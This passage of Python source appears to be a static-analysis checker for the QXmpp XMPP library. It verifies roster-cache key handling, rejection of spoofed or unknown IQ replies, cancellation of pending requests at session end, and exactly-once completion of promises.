                             'bare JID as it is (no case folding, trimming or cutting on one side only - an update would create a second entry and a removal would miss)', floor=3)
    n = 0
    for f in prog.fns.values():
        if f.entry is None or not f.file.endswith('QXmppRosterManager.cpp'):
            continue
        for i, c in f.calls():
            if c.get('obj') is None:
                continue
            o = f.nodes[f.skip(c['obj'])]
            keyargs = c.get('args', [])
            if c.get('op') == '[]' and len(c.get('opargs', [])) == 2:
                o = f.nodes[f.skip(c['opargs'][0])]
                keyargs = c['opargs'][1:]
            if o.get('f') != ENTRIES or not keyargs:
                continue
            n += 1
            run.instance(rid)
            conv = _conversion_in(f, keyargs[0])
            if conv is not None:
                run.violation(rid, '%s#converted-key' % f.outer_name(), f.loc(i),
                              '%s accesses the roster cache with a converted key (%s): the other writers store items under the bare JID as received, so this access does not meet '
                              'their entries' % (f.display()[:50], f.fmt(conv, inline=False)[:60]))
            else:
                run.ok(rid, f.loc(i), 'key %s used as it is' % f.fmt(keyargs[0])[:40], nontrivial=False)
    for f in prog.fns.values():
        if f.entry is None or not f.file.endswith('QXmppRosterManager.cpp'):
            continue
        for i, c in f.calls():
            if c.get('op') == '[]' and len(c.get('opargs', [])) == 2 and f.nodes[f.skip(c['opargs'][0])].get('f') == ENTRIES:
                n += 1
                run.instance(rid)
                conv = _conversion_in(f, c['opargs'][1])
                if conv is not None:
                    run.violation(rid, '%s#converted-key' % f.outer_name(), f.loc(i), '%s indexes the roster cache with a converted key (%s)' % (f.display()[:50], f.fmt(conv, inline=False)[:60]))
                else:
                    run.ok(rid, f.loc(i), 'key used as it is', nontrivial=False)
    if n < 3:
        raise AnalysisBroken('C12.R7: keyed accesses to the entries map not found')


def r8_direct_delivery(prog, run):
    rid = run.rule('C12.R8', 'the full-roster result reaches its continuation in the same dispatch in which it was received: neither the continuation in _q_connected nor the '
                             'chain / chainIq helpers it is attached through defer it to the event loop (queued invocation, zero timer) - a push that follows the result in the same '
                             'read would be applied first and then be wiped by the older snapshot', floor=2)
    conn = prog.fn(RM + '::_q_connected')
    scope = list(prog.closure(conn))
    for f in prog.fns.values():
        if f.entry is not None and f.file.endswith('QXmppFutureUtils_p.h') and not f.raw.get('dependent'):
            scope.append(f)
    seen = set()
    n = 0
    for f in scope:
        if f.id in seen:
            continue
        seen.add(f.id)
        n += 1
        bad = None
        for i, c in f.calls():
            cn = f.cname(c) or ''
            if cn in ('QMetaObject::invokeMethod', 'QTimer::singleShot', 'QCoreApplication::postEvent') or cn.endswith('::callOnTimeout'):
                bad = i
            if any(f.nodes[j]['k'] == 'enum' and f.nodes[j].get('name', '').endswith('QueuedConnection') for a in c.get('args', []) for j in f.walk(a)):
                bad = i
        if bad is not None:
            run.instance(rid)
            run.violation(rid, '%s#deferred-result' % f.outer_name().split('<')[0], f.loc(bad),
                          '%s hands the result to the event loop (%s) instead of delivering it at once: the roster result is applied after stanzas that arrived later' %
                          (f.display()[:50], f.fmt(bad, inline=False)[:50]))
    run.instance(rid)
    run.ok(rid, conn.loc(), '%d functions on the way of the roster result (continuation and chain helpers) deliver directly' % n)
    run.instance(rid)
    run.ok(rid, 'src/base/QXmppFutureUtils_p.h', 'instantiated chain helpers inspected')
