"""C07 — every request completes exactly once, and only by a reply from the entity asked (structural clauses).

R1 finish/erase pairing on the outstanding-request table; closed set of writers
R2 a reply completes a request only after the tag, type, id and sender checks (abstract evaluation per hostile reply)
R3 every way a session ends without resumption cancels the whole table (must-call)
R4 promise must-complete: every path of every function holding a QXmppPromise finishes it once or hands it on
"""
from .. import cfgx
from ..build import AnalysisBroken
from ..callgraph import lambda_role
from ..effects import field_uses, top_function

UNITS = 'all'
IQM = 'QXmpp::Private::OutgoingIqManager'
OC = 'QXmppOutgoingClient'
REQ = IQM + '::m_requests'


def run(prog, run):
    run.explanation = ('The outstanding-request table is analysed for finish/erase pairing on every path and for its closed writer set; the '
                       'reply handler is explored under hostile replies (wrong element, request-typed IQ, unknown id, foreign sender): no completion, '
                       'no erase, returns false; all session-end paths must cancel the table; and for every function or continuation that holds a '
                       'QXmppPromise a typestate exploration requires each path to finish it exactly once or hand it on (zero-iteration loops included).')
    run.assume('interleavings of several outstanding requests with reconnects, and that a remote entity ever replies, are not decided')
    run.assume('the arithmetic of countdown latches (decrement reaches zero exactly once) is trusted')
    r1(prog, run)
    r2(prog, run)
    r3(prog, run)
    r4(prog, run)
    r6(prog, run)
    r5(prog, run)
    r7(prog, run)


def r6(prog, run):
    """a deliberate close must end the outstanding requests: the session-end handler cancels them only when the stream cannot be resumed, and it runs inside the socket close.
    The clause is C10.R5's; it is shared, not copied."""
    from . import C10
    rid = run.rule('C07.R6', 'on a deliberate disconnect the stream manager is told that the stream is closed before the socket is closed (= C10.R5): the session-end handler that runs '
                             'inside the close then sees a stream that cannot be resumed and cancels every outstanding request', floor=1)
    sub = type(run)(run.prop, run.tier, run.seed)
    C10.r5(prog, sub)
    run.instance(rid)
    if sub.violations:
        v = sub.violations[0]
        run.violation(rid, 'disconnectFromHost#requests-left-pending', v['site'],
                      'the socket is closed while the stream still counts as resumable: the session-end handler keeps the outstanding requests for a resumption that is given up '
                      'right afterwards, so they neither complete nor get cancelled (' + v['what'][:160] + ')', v.get('path'))
    else:
        run.ok(rid, 'src/client/QXmppOutgoingClient.cpp', 'onStreamClosed() precedes the socket close on every path (C10.R5)')


def _fe_event(f, nid):
    n = f.nodes[nid]
    if n['k'] != 'call':
        return None
    s = f.sym(n) or {}
    if s.get('name') == 'finish' and 'QXmppPromise' in (s.get('record') or ''):
        return 'F'
    if s.get('name') in ('erase', 'clear') and n.get('obj') is not None and f.nodes[f.skip(n['obj'])].get('f') == REQ:
        return 'E'
    if s.get('qname') in ('std::exchange', 'std::move') and n.get('args') and f.nodes[f.skip(n['args'][0])].get('f') == REQ:
        return 'E'          # the whole table is taken out
    return None


def _completes(prog, f, n, depth=0):
    """the call is a promise completion / table erasure, or a member helper that performs one"""
    s = f.sym(n) or {}
    if s.get('name') == 'finish' and 'QXmppPromise' in (s.get('record') or ''):
        return True
    if s.get('name') == 'erase':
        return True
    if depth < 2 and not n.get('op') and (s.get('qname') or '').startswith(IQM + '::') and s.get('qname') not in (IQM + '::hasId',):
        for g in prog.callee_fns(f, n):
            if g.entry is not None and g.id != f.id and any(_completes(prog, g, m, depth + 1) for _, m in g.calls()):
                return True
    return False


# ------------------------------------------------------------------------------------------- R1
def r1(prog, run):
    rid = run.rule('C07.R1', 'in the request table an entry is erased and then completed on all paths (never completed while still in the table: the continuation may re-enter), '
                             'nothing is erased without completion, and only start/finish/cancelAll/handleStanza touch the table', floor=8)
    allowed = {IQM + '::start': 'emplace', IQM + '::finish': 'erase', IQM + '::cancelAll': 'clear', IQM + '::handleStanza': 'erase'}
    uses = [(f, i, k, h) for f, i, k, h in field_uses(prog, REQ) if k in ('write', 'addr') and h != 'constructor initialiser']
    if len(uses) < 2:
        raise AnalysisBroken('C07.R1: writers of %s not found' % REQ)
    callers = prog.callers()

    def allowed_writer(g, depth=0):
        """one of the four functions, or a member of the manager that is called only from them (an extracted part)"""
        if g.qname in allowed:
            return True
        if depth > 2 or not g.qname.startswith(IQM + '::'):
            return False
        cs = [top_function(prog, c) for c, _ in callers.get(g.id, [])]
        return bool(cs) and all(allowed_writer(c, depth + 1) for c in cs)
    for f, i, k, h in uses:
        run.instance(rid)
        top = top_function(prog, f)
        if allowed_writer(top):
            run.ok(rid, f.loc(i), '%s in %s' % (h, top.qname.split('::')[-1]), nontrivial=False)
        else:
            run.violation(rid, 'm_requests-writer#%s#%s' % (top.qname, h.split(' ')[0]), f.loc(i), '%s modifies the outstanding-request table (%s)' % (top.display(), h))
    for qn in (IQM + '::handleStanza', IQM + '::finish', IQM + '::cancelAll'):
        fn = prog.fn(qn)

        def transfer(f, nid, st):
            n = f.nodes[nid]
            if n['k'] != 'call':
                return None
            s = f.sym(n)
            if not s:
                return None
            if s['name'] == 'finish' and 'QXmppPromise' in (s.get('record') or ''):
                if qn.endswith('cancelAll') and st and st[-1] == 'F':
                    return st
                # the promise that is completed must have been taken out of the table (a local), not be a reference into it
                o = f.nodes[f.skip(n['obj'])] if n.get('obj') is not None else {}
                into_table = False
                if o.get('k') == 'var' and o.get('vk') == 'local':
                    d_ = f.defs().get(o['decl']) or {}
                    into_table = bool(d_.get('ref'))
                elif o.get('k') == 'mem':
                    into_table = True
                return st + (('f' if into_table else 'F'),)
            if s['name'] in ('erase', 'clear') and n.get('obj') is not None and f.nodes[f.skip(n['obj'])].get('f') == REQ:
                return st + ('E',)
            if s.get('qname') in ('std::exchange', 'std::move') and n.get('args') and f.nodes[f.skip(n['args'][0])].get('f') == REQ:
                return st + ('E',)
            if not n.get('op') and s.get('qname', '').startswith(IQM + '::') and f.id == fn.id:
                # a part of the function extracted into another member: its completion / erasure effects happen here
                for g in prog.callee_fns(f, n):
                    if g.entry is not None and g.id != f.id and g.qname not in (IQM + '::finish', IQM + '::cancelAll', IQM + '::handleStanza'):
                        sub = cfgx.effect_sequences(prog, g, _fe_event)
                        if len(sub) == 1 and next(iter(sub)):
                            return st + next(iter(sub))
                        if len(sub) > 1:
                            return st + ('?',)
            return None

        def tr_ret(f, nid, st):
            r = transfer(f, nid, st)
            if r is not None:
                return r if len(r) < 8 else st
            n = f.nodes[nid]
            if n['k'] == 'ret' and 'e' in n:
                v = f.const_value(n['e'])
                if v:
                    return st + (('ret', v[1]),)
            return None
        exits, info = cfgx.explore(fn, (), tr_ret)
        run.paths += len(exits)
        for st, path in exits.items():
            run.instance(rid)
            ev = ''.join(x for x in st if isinstance(x, str))
            ret = [x[1] for x in st if isinstance(x, tuple)]
            ok = True
            why = ''
            # a request leaves the table BEFORE it is completed: the continuation runs synchronously inside finish() and may re-enter the manager (end the
            # session -> cancelAll(), send follow-up requests -> the table rehashes); an entry that is still in the table is then completed twice
            if qn.endswith('cancelAll'):
                # the table is emptied, then any number of completions (loop)
                ok = ev in ('E', 'EF')
                why = 'cancelAll must take all entries out of the table and then complete them (sequence "%s"): completing first lets a re-entering continuation see and ' \
                      'complete the same requests again' % ev
            else:
                if ev not in ('', 'EF'):
                    ok = False
                    why = 'completion/erasure sequence on this path is "%s" (expected none, or erase then finish: a request that is completed while still in the table ' \
                          'is completed again when its continuation re-enters the manager)' % ev
                if qn.endswith('handleStanza'):
                    if ev == 'EF' and ret != [True]:
                        ok, why = False, 'a completed reply is not reported as handled'
                    if ev == '' and ret != [False]:
                        ok, why = False, 'handleStanza returns true without completing a request (reply swallowed)'
            if ok:
                run.ok(rid, fn.loc(), '%s path "%s"%s' % (qn.split('::')[-1], ev or 'no completion', ' -> %s' % ret[0] if ret else ''))
            else:
                run.violation(rid, '%s#pairing:%s' % (qn, ev or 'none'), fn.loc(), why, cfgx.describe_path(fn, path))


# ------------------------------------------------------------------------------------------- R2
def r2(prog, run):
    rid = run.rule('C07.R2', 'a stanza completes a request only if it is an <iq/> of type result/error whose id is outstanding and whose from is '
                             'empty or equal to the recorded addressee; requests need a non-empty unused id and an addressee', floor=8)
    fn = prog.fn(IQM + '::handleStanza')
    sinks = [i for i, n in fn.calls() if _completes(prog, fn, n)]
    if not sinks:
        raise AnalysisBroken('C07.R2: completion site (promise.finish) not found in handleStanza')
    TAG = 'p0.QDomElement::tagName()'
    TYPE = 'p0.QDomElement::attribute("type")'
    FROM = 'p0.QDomElement::attribute("from")'

    def mk(case):
        def custom(f, nid, st):
            bo = f.binop(nid)
            n = f.nodes[nid]
            if bo and bo[0] in ('==', '!='):
                a, b = f.fmt(bo[1]), f.fmt(bo[2])
                sides = {a, b}
                eq = None
                if case == 'not-iq' and TAG in sides and '"iq"' in sides:
                    eq = False
                elif case == 'request-type' and TYPE in sides and (sides & {'"result"', '"error"'}):
                    eq = False
                elif case == 'unknown-id' and any('::find(' in x for x in sides) and any(x.endswith('::end()') for x in sides):
                    eq = True
                elif case == 'foreign-sender' and FROM in sides and any('jid' in x and 'second' in x for x in sides - {FROM}):
                    eq = False
                if eq is not None:
                    return ((bo[0] == '==') == eq,)
            if case == 'foreign-sender' and n['k'] == 'call' and f.cname(n) == 'QString::isEmpty' and n.get('obj') is not None and f.fmt(n['obj']) == FROM:
                return (False,)
            return None
        ev = cfgx.Evaluator(fn, {}, custom=custom)
        return lambda f, c, st: ev.ev(c, st)
    for case, label in (('not-iq', 'an element that is not <iq/>'), ('request-type', 'an IQ of type get/set (or garbage)'),
                        ('unknown-id', 'an id that is not outstanding'), ('foreign-sender', 'a reply whose from is neither empty nor the addressee')):
        run.instance(rid)
        evc = mk(case)
        res = cfgx.sink_reachability(fn, evc, sinks)
        reach = cfgx.reach_with_paths(fn, evc)
        bad = [s for s in sinks if res[s] is not None]
        rets = [i for i, n in fn.returns() if fn.pos(i) and fn.pos(i)[0] in reach and ('e' not in n or fn.const_value(n['e']) != ('bool', False))]
        if bad:
            run.violation(rid, 'handleStanza#%s#completes' % case, fn.loc(bad[0]), '%s completes or erases a pending request' % label,
                          cfgx.describe_path(fn, res[bad[0]]))
        elif rets:
            run.violation(rid, 'handleStanza#%s#swallowed' % case, fn.loc(rets[0]), '%s is reported as handled' % label)
        else:
            run.ok(rid, fn.loc(), '%s: no completion, no erase, returns false' % label)
    # honest reply reaches the completion
    run.instance(rid)

    def honest(f, nid, st):
        n = f.nodes[nid]
        if n['k'] == 'call' and f.cname(n) == 'QString::isEmpty' and n.get('obj') is not None and f.fmt(n['obj']) == FROM:
            return (True,)
        return None
    ev = cfgx.Evaluator(fn, {}, custom=honest)
    res = cfgx.sink_reachability(fn, lambda f, c, st: ev.ev(c, st), sinks)
    if all(res[s] is not None for s in sinks):
        run.ok(rid, fn.loc(), 'a result/error reply with empty from completes and erases the request')
    else:
        run.violation(rid, 'handleStanza#server-reply-rejected', fn.loc(), 'a reply without from (own server) cannot complete a request any more')
    # start(): preconditions
    st_fn = prog.fn(IQM + '::start')
    emplace = [i for i, n in st_fn.calls() if (st_fn.sym(n) or {}).get('name') in ('emplace', 'insert', 'try_emplace', 'operator[]')
               and n.get('obj') is not None and st_fn.nodes[st_fn.skip(n['obj'])].get('f') == REQ]
    if not emplace:
        raise AnalysisBroken('C07.R2: start() no longer emplaces into m_requests')
    def id_case(kind):
        """abstract request: 'empty' id / id that is already 'outstanding' / 'fresh' id; to_empty: no addressee"""
        def custom(f, nid, s, kind=kind):
            n = f.nodes[nid]
            if n['k'] == 'call':
                cn = f.cname(n)
                sy = f.sym(n) or {}
                if cn == 'QString::isEmpty' and n.get('obj') is not None:
                    o = f.nodes[f.skip(n['obj'])]
                    if o['k'] == 'var' and o.get('pidx') == 0:
                        return (kind[0] == 'empty',)
                    if o['k'] == 'var' and o.get('pidx') == 1:
                        return (kind[1],)
                if cn == IQM + '::hasId':
                    return (kind[0] == 'outstanding',)
                if sy.get('name') in ('contains', 'count') and n.get('obj') is not None and f.nodes[f.skip(n['obj'])].get('f') == REQ:
                    return (kind[0] == 'outstanding',)
            bo = f.binop(nid)
            if bo and bo[0] in ('==', '!='):
                a, b = f.fmt(bo[1]), f.fmt(bo[2])
                if any('::find(' in x and 'm_requests' in x for x in (a, b)) and any(x.endswith('::end()') for x in (a, b)):
                    return ((bo[0] == '==') != (kind[0] == 'outstanding'),)
            return None
        ev = cfgx.Evaluator(st_fn, {}, custom=custom)
        return lambda f, c, s: ev.ev(c, s)
    for kind, label, key in ((('empty', False), 'an empty id', 'start#accepts-invalid-id'), (('outstanding', False), 'an id that is already outstanding', 'start#accepts-invalid-id'),
                             (('fresh', True), 'no addressee', 'start#accepts-empty-addressee')):
        run.instance(rid)
        res = cfgx.sink_reachability(st_fn, id_case(kind), emplace)
        if any(res[e] is not None for e in emplace):
            run.violation(rid, key, st_fn.loc(), 'a request with %s is entered into the table%s' % (label, ' (any sender could answer it)' if kind[1] else ''))
        else:
            run.ok(rid, st_fn.loc(), '%s: rejected before the table is touched' % label)
    res = cfgx.sink_reachability(st_fn, id_case(('fresh', False)), emplace)
    if not any(res[e] is not None for e in emplace):
        raise AnalysisBroken('C07.R2: start() does not register even a well-formed request (model does not fit the code)')
    run.instance(rid)
    send = prog.fn(OC + '::sendIq', pick=lambda f: len(f.params) == 1)
    okto = False
    for i, n in send.calls():
        if send.cname(n) == IQM + '::sendIq' and len(n['args']) >= 2:
            t = send.fmt(n['args'][1])
            okto = 'QXmppConfiguration::jidBare' in t and 'isEmpty' in t and 'QXmppStanza::to' in t
    if okto:
        run.ok(rid, send.loc(), 'sendIq records the addressee, or the own bare JID when none is given')
    else:
        run.violation(rid, 'QXmppOutgoingClient::sendIq#addressee', send.loc(), 'the expected sender recorded for a request is not "to, or own bare JID if empty"')


# ------------------------------------------------------------------------------------------- R3
def _must_call(fn, callee_names, evalc=None):
    """every path from entry to exit passes a call of one of the callees (under the folded conditions)"""
    def transfer(f, nid, st):
        n = f.nodes[nid]
        if n['k'] == 'call' and f.cname(n) in callee_names and not st:
            return ('hit',)
        return None
    exits, _ = cfgx.explore(fn, (), transfer, evalc)
    return all(st for st in exits), exits


def r3(prog, run):
    rid = run.rule('C07.R3', 'destruction, a session opened without resumption and a session closed without the possibility of resumption '
                             'cancel every outstanding request; session open/close always notify the request manager; a dropped socket ends the session or retries', floor=7)
    cancel = {IQM + '::cancelAll'}
    dtor = prog.fn(OC + '::~QXmppOutgoingClient')
    run.instance(rid)
    ok, _ = _must_call(dtor, cancel)
    run.ok(rid, dtor.loc(), 'destructor cancels all requests') if ok else run.violation(rid, '~QXmppOutgoingClient#no-cancel', dtor.loc(), 'destructor leaves requests pending forever')
    for qn, fld, label in ((IQM + '::onSessionOpened', 'smResumed', 'session opened without resumption'),
                           (IQM + '::onSessionClosed', 'smCanResume', 'session closed and cannot be resumed')):
        fn = prog.fn(qn)
        run.instance(rid)

        def custom(f, nid, st, fld=fld):
            n = f.nodes[nid]
            if n['k'] == 'mem' and n['name'] == fld:
                return (False,)
            return None
        ev = cfgx.Evaluator(fn, {}, custom=custom)
        ok, exits = _must_call(fn, cancel, lambda f, c, st: ev.ev(c, st))
        if ok:
            run.ok(rid, fn.loc(), '%s: cancelAll() on every path' % label)
        else:
            run.violation(rid, '%s#no-cancel' % qn, fn.loc(), '%s does not cancel outstanding requests: they stay pending forever' % label)
    for qn, callee in ((OC + '::openSession', IQM + '::onSessionOpened'), (OC + '::closeSession', IQM + '::onSessionClosed')):
        fn = prog.fn(qn)
        run.instance(rid)
        ok, _ = _must_call(fn, {callee})
        if ok:
            run.ok(rid, fn.loc(), '%s always notifies the request manager' % qn.split('::')[-1])
        else:
            run.violation(rid, '%s#no-notify' % qn, fn.loc(), '%s does not call %s on every path' % (qn, callee))
    sd = prog.fn(OC + '::_q_socketDisconnected')
    run.instance(rid)
    ok, _ = _must_call(sd, {OC + '::closeSession', 'QXmppOutgoingClientPrivate::connectToNextAddress', 'QXmppOutgoingClientPrivate::connectToHost'})
    if ok:
        run.ok(rid, sd.loc(), 'socket disconnect: next address, redirect, or closeSession on every path')
    else:
        run.violation(rid, '_q_socketDisconnected#dangling', sd.loc(), 'a socket disconnect can leave the session neither closed nor retried')
    # send errors finish through finish(id, ...) (which erases)
    send = prog.fn(IQM + '::sendIq', pick=lambda f: len(f.params) == 3)
    run.instance(rid)
    ok = False
    cand = list(prog.lambdas_in(send))
    for l in list(cand):
        for i, n in l.calls():
            for g in prog.callee_fns(l, n):
                if (g.record or '').endswith('OutgoingIqManager') and g.name not in ('finish', 'start', 'sendIq'):
                    cand.append(g)     # the continuation forwards to a member function
    for l in cand:
        for i, n in l.calls(IQM + '::finish'):
            atoms = [(l.fmt(c), p) for c, p in l.atomic_assertions_at(i)]
            if any('QXmppError' in t and ('holds_alternative' in t or 'get_if' in t) and p is True for t, p in atoms):
                ok = True
    if ok:
        run.ok(rid, send.loc(), 'a send error completes the request through finish(id, error)')
    else:
        run.violation(rid, 'OutgoingIqManager::sendIq#send-error', send.loc(), 'a failed send no longer completes the request')


# ------------------------------------------------------------------------------------------- R4
def _promise_vars(f):
    """{decl id: (name, declared_here)} of variables of type QXmppPromise<...> held by f: by-value locals, parameters,
    captured outer variables, structured bindings; references to container/map entries are entry-held, not held here"""
    out = {}
    defs = f.defs()
    for n in f.nodes:
        if n['k'] == 'var' and 'QXmppPromise<' in n.get('t', '') and 'vector' not in n.get('t', '') and 'optional' not in n.get('t', ''):
            d = defs.get(n['decl'])
            if d and (d.get('rangevar') or (d.get('ref') and 'binding_of' not in d)):
                continue
            out[n['decl']] = (n['name'], bool(d) and 'binding_of' not in (d or {}))
    for p in f.params:
        if 'QXmppPromise<' in p['t'] and 'vector' not in p['t']:
            out[p['var']] = (p['name'], False)
    return out


def _is_latch(fn, c):
    """condition of a countdown latch: <counter expression> == 0 (or != 0 / !x) where the counter is decremented here"""
    c = fn.skip(c)
    bo = fn.binop(c)
    side = None
    if bo and bo[0] in ('==', '!=', '<=', '>'):
        for a, b in ((bo[1], bo[2]), (bo[2], bo[1])):
            if fn.const_value(b) == ('int', 0):
                side = a
    if side is None:
        return False
    for j in fn.walk(side):
        m = fn.nodes[j]
        if m['k'] == 'un' and m['op'] in ('pre--', 'post--'):
            return True
    target = fn.fmt(side, inline=False)
    for j, m in enumerate(fn.nodes):
        if m['k'] == 'un' and m['op'] in ('pre--', 'post--') and fn.fmt(m['e'], inline=False) == target:
            return True
        if m['k'] == 'assign' and m['op'] == '-=' and fn.fmt(m['l'], inline=False) == target:
            return True
    return False


def _classify(prog, f, nid, decl):
    """'F' finish, 'T' transfer, None"""
    n = f.nodes[nid]
    k = n['k']
    if k == 'call':
        s = f.sym(n)
        o = n.get('obj')
        if o is not None:
            on = f.nodes[f.skip(o)]
            if on['k'] == 'var' and on.get('decl') == decl:
                if s and s['name'] == 'finish':
                    return 'F'
                return None        # task(), other const accessors
        for a in n.get('args', []) + (n.get('opargs', [])[1:] if n.get('op') == '()' else []):
            an = f.nodes[f.skip(a)]
            if an['k'] == 'var' and an.get('decl') == decl:
                return 'T'
        return None
    if k == 'construct':
        for a in n.get('args', []):
            an = f.nodes[f.skip(a)]
            if an['k'] == 'var' and an.get('decl') == decl:
                return 'T'
        return None
    if k == 'lambda':
        for c in n.get('caps', []):
            if c.get('var') == decl or c.get('from') == decl:
                return 'T'
            if 'init' in c:
                for j in f.walk(c['init']):
                    m = f.nodes[j]
                    if m['k'] == 'var' and m.get('decl') == decl:
                        return 'T'
        return None
    if k == 'assign':
        r = f.nodes[f.skip(n['r'])]
        if r['k'] == 'var' and r.get('decl') == decl:
            return 'T'
        for j in f.walk(n['r']):
            m = f.nodes[j]
            if m['k'] == 'var' and m.get('decl') == decl and f.nodes[f.skip(n['l'])]['k'] == 'mem':
                return 'T'
    if k == 'ret' and 'e' in n:
        e = f.nodes[f.skip(n['e'])]
        if e['k'] == 'var' and e.get('decl') == decl:
            return 'T'
    if k == 'initlist':
        for a in n.get('elems', []):
            an = f.nodes[f.skip(a)]
            if an['k'] == 'var' and an.get('decl') == decl:
                return 'T'
    return None


def _explore_promise(prog, f, decl, declared_here, classify=None, gone_edge=None):
    """typestate U(ndeclared) -> N -> F | T ; flags: L = a latch said "not the last job", Z = a latch said "last job".
    returns list of (kind, path) problems"""
    def transfer(fn, nid, st):
        status, ne, flags = st
        n = fn.nodes[nid]
        if status == 'U':
            if n['k'] == 'decl' and any(d['var'] == decl or any(b['var'] == decl for b in d.get('bindings', [])) for d in n['decls']):
                return ('N', ne, flags)
            return None
        c = classify(fn, nid) if classify else _classify(prog, fn, nid, decl)
        if c == 'F':
            if status == 'N':
                return ('F', ne, flags)
            if status == 'F':
                return ('F' if 'Z' in flags else 'FF', ne, flags)
            return None
        if c == 'T' and status == 'N':
            return ('T', ne, flags)
        return None

    def refine(fn, cond, pol, st):
        status, ne, flags = st
        if gone_edge and isinstance(pol, bool) and gone_edge(fn, cond, pol):
            flags = flags | {'D'}
        if isinstance(pol, bool):
            res = []
            fn._decompose(cond, pol, res)
            for c, p in res:
                n = fn.nodes[fn.skip(c)]
                if isinstance(p, bool) and _is_latch(fn, c):
                    bo = fn.binop(c)
                    last = (bo[0] in ('==', '<=')) == p
                    flags = flags | ({'Z'} if last else {'L'})
                if n['k'] == 'call' and (fn.sym(n) or {}).get('name') in ('isEmpty', 'empty') and p is False:
                    if n.get('obj') is not None:
                        ne = ne | {fn.fmt(n['obj']), fn.fmt(n['obj'], inline=False)}
                    elif n.get('args'):
                        ne = ne | {fn.fmt(n['args'][0]), fn.fmt(n['args'][0], inline=False)}
                if n['k'] == 'call' and (fn.sym(n) or {}).get('name') == 'isFinished' and p is True:
                    flags = flags | {'D'}       # someone else already completed the shared state
        return (status, ne, flags)

    def edge_filter(fn, bid, edge, st):
        t = fn.blocks[bid].get('term')
        if t and t['k'] == 'rangefor' and edge == 1 and 'range' in t:
            status, ne, flags = st
            rng = fn.fmt(t['range'])
            if status == 'N' and (rng in ne or any(rng.startswith(x) or x.startswith(rng) for x in ne)):
                return False        # zero iterations over a container known to be non-empty
        if t and t['k'] == 'for' and edge == 1 and 'cond' in t:
            status, ne, flags = st
            bo = fn.binop(t['cond'])
            if status == 'N' and 'L' not in flags and bo and bo[0] in ('<', '!='):
                bound = fn.fmt(bo[2])
                for x in ne:
                    if bound in (x + '.QVector<MamMessage>::size()',) or (bound.startswith(x + '.') and bound.endswith('::size()')) \
                            or (bound.startswith(x + '.') and bound.endswith('::count()')):
                        return False    # first test of "i < X.size()" for a container known to be non-empty
        return True
    init = ('U' if declared_here else 'N', frozenset(), frozenset())
    exits, info = cfgx.explore(f, init, transfer, None, refine, edge_filter=edge_filter)
    problems = []
    for (status, ne, flags), path in exits.items():
        if status == 'N' and not (flags & {'L', 'D'}):
            problems.append(('dropped', path))
        elif status == 'FF':
            problems.append(('double', path))
    return problems, len(exits)


def r4(prog, run):
    rid = run.rule('C07.R4', 'every function or continuation holding a QXmppPromise finishes it exactly once or hands it on (lambda capture, argument, '
                             'member store) on every path, including zero-iteration loops', floor=75)
    # negotiation-internal steps (bind/SASL/legacy auth managers) are excluded: when they fail the connection is torn down,
    # which is C10's subject; the request table itself is covered by R1-R3
    scope = [f for f in prog.fns.values() if ('/src/client/' in f.file or '/src/base/' in f.file or '/src/server/' in f.file)
             and not f.raw.get('dependent') and 'QXmppPromise.h' not in f.file and 'QXmppTask.h' not in f.file
             and not f.file.endswith(('client/QXmppOutgoingClient.cpp', 'client/QXmppSaslManager.cpp'))]
    seen = set()
    for f in sorted(scope, key=lambda x: (x.file, x.line)):
        pv = _promise_vars(f)
        if not pv:
            continue
        for decl, (name, declared_here) in sorted(pv.items()):
            key = (f.file, f.line, f.qname if not f.is_lambda else f.display(), name)
            if key in seen:
                continue
            seen.add(key)
            # the variable must be *held* here: declared here, a by-value/reference parameter, or captured
            uses = [i for i, n in enumerate(f.nodes) if n['k'] == 'var' and n.get('decl') == decl]
            if not uses:
                continue
            run.instance(rid)
            problems, npaths = _explore_promise(prog, f, decl, declared_here)
            run.paths += npaths
            top = f.outer_name()
            if not problems:
                run.ok(rid, f.loc(), '%s: promise "%s" finished or handed on along all %d path classes' % (f.display()[-70:], name, npaths), nontrivial=npaths > 1)
                continue
            for kind, path in problems[:2]:
                desc = cfgx.describe_path(f, path)
                if kind == 'dropped':
                    run.violation(rid, '%s#promise:%s#dropped%s' % (top, name, ('@lambda' if f.is_lambda else '')), f.loc(),
                                  'on some path %s neither finishes promise "%s" nor hands it on: the request stays pending forever' % (f.display()[-80:], name), desc)
                else:
                    run.violation(rid, '%s#promise:%s#double-finish' % (top, name), f.loc(),
                                  'promise "%s" can be finished twice along one path in %s' % (name, f.display()[-80:]), desc)

    # entry-held promises completed from the final continuation of the request IQ (pending maps)
    rid2 = run.rule('C07.R4b', 'the continuation of a request IQ that owns a pending-map entry completes (and erases) it or registers a further '
                               'continuation on every path after the entry was found', floor=1)
    for f in scope:
        if not f.is_lambda:
            continue
        def finishing(g, n, depth=0):
            s = g.sym(n)
            o = n.get('obj')
            if not s:
                return False
            if o is not None:
                on = g.nodes[g.skip(o)]
                if s['name'] == 'finish' and on['k'] == 'mem' and 'QXmppPromise<' in on.get('t', ''):
                    return True
                if s['name'] == 'finish' and s.get('record') and any(fl.get('t', '').startswith('QXmppPromise<') for fl in (prog.records.get(s['record']) or {}).get('fields', [])):
                    return True
            if depth < 2 and not n.get('op'):
                # a helper of the same file that completes the entry it is handed (finish + erase extracted into the storage class)
                for h in prog.callee_fns(g, n):
                    if h.entry is not None and h.id != g.id and h.file == g.file and not h.is_lambda and any(finishing(h, m, depth + 1) for _, m in h.calls()):
                        return True
            return False
        finishes = [i for i, n in f.calls() if finishing(f, n)]
        if not finishes:
            continue
        parent = prog.fns.get(f.parent_id)
        if not parent:
            continue
        lam = [i for i, n in parent.all_nodes('lambda') if f.id in n.get('fns', [])]
        if not lam:
            continue
        call_nid, callee = lambda_role(parent, lam[0])
        if not callee or not callee.endswith('::then') or 'sendIq' not in parent.fmt(call_nid):
            continue
        finds = [i for i, n in f.calls() if (f.sym(n) or {}).get('name') == 'find']
        if not finds:
            continue
        run.instance(rid2)

        def classify(fn, nid, finishes=finishes):
            n = fn.nodes[nid]
            if nid in finishes:
                return 'F'
            if n['k'] == 'lambda':
                c2, cal = lambda_role(fn, nid)
                if cal and cal.endswith('::then'):
                    return 'T'
            return None

        def gone(fn, cond, pol):
            bo = fn.binop(cond)
            return bool(bo and bo[0] in ('==', '!=') and '::end()' in fn.fmt(cond) and (bo[0] == '==') == pol)
        problems, npaths = _explore_promise(prog, f, None, False, classify=classify, gone_edge=gone)
        run.paths += npaths
        bad = [p for k, p in problems if k == 'dropped']
        if bad:
            run.violation(rid2, '%s#pending-entry#dropped' % f.outer_name(), f.loc(),
                          'a path of the request continuation neither completes the pending entry nor registers another continuation: the task never finishes',
